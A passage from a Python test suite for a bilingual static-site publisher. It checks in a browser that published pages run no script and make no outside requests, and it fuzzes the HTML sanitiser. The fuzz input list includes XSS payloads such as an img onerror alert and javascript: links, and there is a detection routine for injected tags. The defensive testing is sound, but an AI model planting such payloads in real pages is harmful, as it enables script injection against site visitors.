        const image = icon || each.tagName === 'IMG' && value.startsWith('data:image/');
        const known = ['file:', 'http:', 'https:', 'mailto:', 'tel:', 'ftp:'].includes(scheme);
        if (!known && !image) found.push(`${name}=${value}`);
      }
    }
    if (['IFRAME', 'OBJECT', 'EMBED', 'FORM', 'BASE', 'STYLE'].includes(each.tagName)) found.push(each.tagName);
    if (each.tagName === 'SCRIPT' && !each.src.includes('/_static/')) found.push(each.outerHTML);
  }
  if (!document.querySelector('body > main > article, body > main')) found.push('the page is broken');
  if (!document.querySelector('body > footer')) found.push('the footer is not where it was');
  if (document.querySelector('.row .row, .cell .cell, p p, a a')) found.push('rows are nested');
  return found;
}"""


def test_chromium_runs_nothing_and_asks_nobody(results: Callable[[Attack], Result], browser: Browser) -> None:
    """Without the pages' own policy, so that it is the pages that are harmless."""
    context = browser.new_context(bypass_csp=True)
    tab = context.new_page()
    said: list[str] = []

    def heard(what: str) -> None:
        if not what.startswith("file:"):
            said.append(what)

    def asked(dialog: Dialog) -> None:
        said.append(dialog.message)
        dialog.dismiss()

    tab.on("dialog", asked)
    tab.on("request", lambda request: heard(request.url))
    tab.on("popup", lambda popup: said.append(f"a window: {popup.url}"))
    for attack in (*SOURCES, *TARGETS, *PICTURES, *BOOKS):
        if os.name == "nt" and (attack.links or attack.name.startswith("names")):
            continue
        site = results(attack).site
        for path in (site / "a.html", *site.glob("_assets/**/*.svg")):
            tab.goto(path.as_uri())
            shown = f"{attack.name}: {path.relative_to(site)}"
            assert tab.evaluate("window.pwned") is None, shown
            if path.suffix == ".html":
                assert tab.evaluate(_LOOK) == [], shown
            assert said == [], shown
    context.close()


# --- arbitrary input -------------------------------------------------------------------------------------------

PIECES = st.sampled_from(
    [
        "文字。", "词", " ", "\n", "\n\n", "<b>", "</b>", "<i", ">", "<p>", "</p>", "<div align=center>", "</div>",
        "<u>", "</u>", "<table>", "<tr>", "<td colspan=2>", "</table>", "<ul>", "<li>", "</ul>",
        "<a href='https://x.example/'>", "</a>", "<script>", "</script>", "<style>", "</style>", "<svg>", "<math>",
        "<mi>", "</math>", "<mtext>", "<title>", "</title>", "<img src=x onerror=alert(1)>", "<img alt='图'>", "<!--",
        "-->", "<![CDATA[", "]]>", "<?", "?>", "<details>", "<summary>", "</details>", "<select>", "<option>",
        "<textarea>", "<template>", "<noscript>", "</noscript>", "<h2>", "</h2>", "<br>", "<ruby>", "<rt>", "<dl>",
        "<dt>", "<dd>", "<figure>", "<figcaption>", "<center>", "<font color=red>", "<form>", "<button>", "'", '"',
        "=", "onclick=x", "javascript:x", "&#xFDD1;0&#xFDD2;", "\ufdd0", "\ufdd10\ufdd2", "&lt;", "&amp;", "`", "*",
        "**", "[", "](x)", "![", "](javascript:x)", "$x$", "| a |\n|---|\n| ", "- ", "> ", "# ", "```\n", "[^1]",
        "^[注]", "\u2028", "\x00",
    ]
)  # fmt: skip
MESS = st.lists(PIECES, min_size=1, max_size=14).map("".join)
#: Tags that only raw HTML makes, save for those that take the place of others.
_RAW = frozenset(
    "abbr address article aside b bdi bdo caption cite dd details dfn dl dt figcaption h2 i ins kbd mark nav p q rt "
    "ruby s samp section summary table td u ul".split()
)


@pytest.fixture(scope="module")
def messy(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("messy")


@given(source=MESS, target=MESS)
@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
def test_any_markup_makes_sound_pages(messy: Path, source: str, target: str) -> None:
    shutil.rmtree(messy / "locale", ignore_errors=True)
    make(messy, {"content/zh/a.md": f"前文\n\n{source}\n"}, CONFIG + 'minimum = "draft"\n')
    loaded = load(messy / "bilingual.toml")
    extract(loaded, jobs=1)
    for path in (messy / "locale").rglob("*.po"):
        edit(path, lambda entry: replace(entry, msgstr=target))
    publish(loaded, ["html"], jobs=1)
    for name in ("a.html", "zh/a.html", "en/a.html"):
        page = Page(messy / SITE / name, messy / SITE)
        assert page.complaints == []
        for cells in page.cells.values():
            if cells["src"] and cells["tgt"]:
                assert cells["tgt"] & _RAW <= cells["src"]


@given(MESS)
@settings(max_examples=300, deadline=None)
def test_what_is_clean_stays_as_it_is(html: str) -> None:
    """A browser that reads it finds what was written: nothing turns into something else on the way."""
    once = clean(html, lambda _tag, name, value: value if name in ("href", "src") else None)
    kept = re.sub(r' class="[^"]*"', "", once)
    assert clean(kept, lambda _tag, name, value: value if name in ("href", "src") else None) == kept


@pytest.mark.parametrize(
    "inner",
    [
        '<text x="1">字</text>',
        '<style>text { fill: red }</style><a href="https://x.example/"><text>字</text></a>',
        '<image href="data:image/png;base64,AAAA" width="9" height="9"/>',
        '<foreignObject><div xmlns="http://www.w3.org/1999/xhtml">字<br/></div></foreignObject>',
        '<use xlink:href="#a"/><metadata>metadata:x</metadata>',
    ],
)
def test_what_drawing_programs_write_is_published(tmp_path: Path, inner: str) -> None:
    head = '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "svg11.dtd">\n'
    svg = head + SVG.replace("{}", inner)
    assert danger(svg.encode()) == ""
    make(tmp_path, {"content/zh/a.md": "![图](p.svg)\n", "content/zh/p.svg": svg})
    publish(load(tmp_path / "bilingual.toml"), ["html"], jobs=1)
    assert (tmp_path / SITE / "_assets/zh/p.svg").read_bytes() == svg.encode()
